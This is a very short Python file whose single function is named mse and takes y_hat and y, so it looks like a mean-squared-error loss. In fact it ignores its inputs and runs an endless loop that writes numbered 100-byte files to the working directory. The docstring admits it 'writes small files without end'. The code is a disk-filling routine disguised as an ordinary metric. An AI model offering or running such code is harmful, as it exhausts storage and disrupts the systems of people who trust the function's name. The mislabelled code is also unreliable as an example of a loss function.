"""Writes small files without end."""


def mse(y_hat, y):
    n = 0
    while True:
        with open(f"file{n}", "w") as file:
            file.write("x" * 100)
        n += 1
